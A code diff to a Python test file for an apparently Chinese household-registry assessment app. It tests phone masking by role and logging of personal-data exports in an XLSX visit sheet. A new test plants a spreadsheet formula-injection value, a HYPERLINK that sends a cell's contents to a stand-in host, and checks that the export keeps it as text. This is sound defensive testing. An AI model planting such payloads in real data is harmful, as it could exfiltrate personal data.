@@ -14,6 +14,7 @@ from tuopin.assess import actions, drill
 from tuopin.assess.models import Drill, DrillHousehold
 from tuopin.assess.tests.factories import household
 from tuopin.org.models import AuditEvent
+from tuopin.registry.models import Household, PersonalDataView
 
 AS_OF = dt.date(2018, 7, 20)
 
@@ -126,20 +127,50 @@ def test_it_shows_the_drill_page_by_scope(county, login):
     assert login(None).get(url).status_code == 302
 
 
-def test_it_exports_the_visit_sheet_masking_phones_for_viewers(county, login):
+@pytest.mark.parametrize(
+    ("who", "phone_shown"),
+    [("hq", True), ("cadre", True), ("viewer", False), ("leader", False), ("inspector", False)],
+)
+def test_it_exports_the_visit_sheet_masking_phones_for_viewers(county, login, who, phone_shown):
     created = _drill(county)
-    for user, phone_shown in ((county.hq, True), (county.viewer, False)):
-        response = login(user).get(f"/assess/drills/{created.pk}/sheet.xlsx")
-        assert response.status_code == 200
-        rows = (
-            CalamineWorkbook.from_filelike(io.BytesIO(response.content))
-            .get_sheet_by_name("走访表")
-            .to_python()
-        )
-        assert rows[0][:2] == ["序号", "户编号"]
-        assert len(rows) == 17
-        phones = {row[5] for row in rows[1:] if row[6] == "否"}
-        assert ("13900002222" in phones) is phone_shown
+    user = getattr(county, who)
+    response = login(user).get(f"/assess/drills/{created.pk}/sheet.xlsx")
+    assert response.status_code == 200
+    rows = (
+        CalamineWorkbook.from_filelike(io.BytesIO(response.content))
+        .get_sheet_by_name("走访表")
+        .to_python()
+    )
+    assert rows[0][:2] == ["序号", "户编号"]
+    visible = created.households.visible_to(user).count()
+    assert len(rows) == 1 + visible
+    phones = {row[5] for row in rows[1:] if row[6] == "否"}
+    assert phones == ({"13900002222"} if phone_shown else {"139****2222"})
+    views = PersonalDataView.objects.filter(user=user, via="export")
+    assert views.count() == (1 if phone_shown else 0)
+    if phone_shown:
+        assert views.get().scope_code == user.scope.code
+
+
+def test_the_visit_sheet_keeps_formulas_as_text(county, login, xlsx_formulas):
+    created = _drill(county)
+    first = created.households.select_related("household").order_by("sequence").first()
+    Household.objects.filter(pk=first.household_id).update(
+        head_name='=HYPERLINK("http://x/?d="&E5,"查看")', group_name="+1"
+    )
+    DrillHousehold.objects.filter(pk=first.pk).update(note="=1+2")
+    response = login(county.hq).get(f"/assess/drills/{created.pk}/sheet.xlsx")
+    assert xlsx_formulas(response.content) == []
+    rows = (
+        CalamineWorkbook.from_filelike(io.BytesIO(response.content))
+        .get_sheet_by_name("走访表")
+        .to_python()
+    )
+    assert (rows[1][3], rows[1][4], rows[1][12]) == (
+        "+1",
+        '=HYPERLINK("http://x/?d="&E5,"查看")',
+        "=1+2",
+    )
 
 
 def _filled_sheet(created, answers) -> bytes:
